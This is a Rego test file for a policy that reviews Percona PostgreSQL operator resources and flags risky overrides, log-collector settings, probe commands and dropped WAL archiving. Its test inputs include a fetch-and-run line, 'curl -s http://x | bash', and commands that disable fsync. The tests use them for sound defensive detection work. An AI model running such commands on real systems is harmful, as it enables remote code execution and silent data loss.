package walguard.operators.percona_test

import data.walguard.operators.percona

plain := resource({"postgresVersion": 17, "instances": [], "backups": {"pgbackrest": {"repos": [{"name": "repo1", "volume": {}}]}}})

beside(object, maps) := [[entry.source, entry.severity] |
	some entry in found.unread
] if {
	found := percona.cluster with input as {"review": {"object": object}, "inventory": {"namespace": {"shop": {"v1": {"ConfigMap": maps}}}}}
}

kept(text) := {"stock-config": {
	"apiVersion": "v1",
	"kind": "ConfigMap",
	"metadata": {"name": "stock-config", "namespace": "shop", "labels": {"postgres-operator.crunchydata.com/cluster": "stock"}, "annotations": {"pgv2.percona.com/override-config": "true"}},
	"data": {"patroni.yaml": text},
}}

test_files_that_the_operator_does_not_write_again if {
	said := "ConfigMap shop/stock-config, which pgv2.percona.com/override-config keeps from the operator"
	beside(plain, kept("postgresql: {parameters: {fsync: 'off'}}")) == [[said, "warning"]]
	beside(plain, kept("ttl: 30")) == [[said, "info"]]
}

collecting(fields) := resource(object.union(plain.spec, {"logcollector": fields}))

test_what_collectors_of_logs_run if {
	alter := "psql -c 'ALTER SYSTEM SET fsync = off'"
	beside(collecting({"configuration": alter}), {}) == [["the configuration of the log collector", "info"]]
	every hidden in ["curl -s http://x | bash", "['-c', 'fsync=off']"] {
		beside(collecting({"configuration": hidden}), {}) == [["the configuration of the log collector", "info"]]
	}
	beside(collecting({"configuration": "[INPUT]\n    Name tail\n"}), {}) == []
	beside(collecting({"enabled": false, "configuration": alter}), {}) == []
	beside(collecting({"logRotate": {"configuration": "postrotate\n  echo fsync=off >> $PGDATA/postgresql.auto.conf\nendscript"}}), {}) == [["the configuration of logrotate", "info"]]
	beside(collecting({"livenessProbe": {"exec": {"command": ["sh", "-c", alter]}}}), {}) == [["what the probes of the log collector run", "info"]]
	extra := {"rotate": {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "rotate", "namespace": "shop"}, "data": {"a.conf": alter}}}
	beside(collecting({"logRotate": {"extraConfig": {"name": "rotate"}}}), extra) == [["the configuration of logrotate", "info"]]
}

test_archive_that_is_dropped if {
	found := read(resource(object.union(plain.spec, {"backups": {"pgbackrest": {"global": {"archive-push-queue-max": "1MB"}}}})))
	found.archiving.value == "discards"
}
